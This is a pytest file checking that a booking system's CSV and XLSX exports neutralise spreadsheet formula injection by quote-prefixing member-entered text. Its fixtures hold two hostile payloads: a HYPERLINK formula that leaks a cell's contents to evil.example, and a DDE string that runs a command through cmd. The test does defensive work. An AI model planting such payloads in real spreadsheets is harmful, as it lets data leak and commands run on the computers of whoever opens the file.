"""Booking exports never hand Excel/WPS a formula written by a member (CSV/formula injection)."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from server.core.timeutil import SHANGHAI, utcnow

API = "/api/v1"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
DDE = "+cmd|' /C calc'!A0"


def _setup(client, make, auth):
    cal = make.calendar(kind="reception_day", title="书记接待日")
    start = utcnow() + timedelta(days=5)
    evil = make.member(name=LINK, department="-2+3")
    plain = make.member(name="张三", department="机修车间")
    for member, topic, at in ((evil, DDE, start), (plain, "宿舍热水", start + timedelta(hours=1))):
        slot = make.slot(cal, starts_at=at)
        r = client.post(f"{API}/slots/{slot.id}/bookings", json={"topic": topic}, headers=auth(member))
        assert r.status_code == 201, r.json
    return cal, start


def test_formula_like_text_is_quoted_in_csv_and_plain_text_is_not(client, make, auth):
    cal, start = _setup(client, make, auth)
    r = client.get(f"{API}/calendars/{cal.id}/bookings?format=csv", headers=auth(make.staff()))
    assert r.status_code == 200
    text = r.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][4] == "姓名" and rows[0][-1] == "想反映的问题"
    assert (rows[1][4], rows[1][5], rows[1][-1]) == ("'" + LINK, "'-2+3", "'" + DDE)
    assert (rows[2][4], rows[2][5], rows[2][-1]) == ("张三", "机修车间", "宿舍热水")
    # dates and times we write ourselves are not quoted
    local = start.astimezone(SHANGHAI)
    assert rows[1][:2] == [local.strftime("%Y-%m-%d"), local.strftime("%H:%M")]


def test_formula_like_text_is_a_string_cell_in_xlsx(client, make, auth):
    cal, _ = _setup(client, make, auth)
    r = client.get(f"{API}/calendars/{cal.id}/bookings?format=xlsx", headers=auth(make.staff()))
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    assert ws.title == "预约名单" and ws["M1"].value == "想反映的问题"
    for ref, value in (("E2", LINK), ("F2", "-2+3"), ("M2", DDE), ("E3", "张三"), ("M3", "宿舍热水")):
        assert (ws[ref].data_type, ws[ref].value) == ("s", value), ref
    assert ws["E2"].quotePrefix and ws["M2"].quotePrefix and not ws["E3"].quotePrefix
